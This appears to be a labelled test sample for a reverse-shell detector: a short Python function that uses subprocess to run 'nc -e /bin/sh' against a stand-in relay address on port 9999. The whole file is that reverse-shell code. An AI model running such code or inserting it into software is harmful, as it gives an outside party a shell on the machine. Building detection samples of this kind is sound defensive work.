# expect: reverse-shell
import subprocess

RELAY = ("203.0.113.9", 9999)


def open_tunnel():
    host, port = RELAY
    return subprocess.Popen(f"nc -e /bin/sh {host} {port}", shell=True)
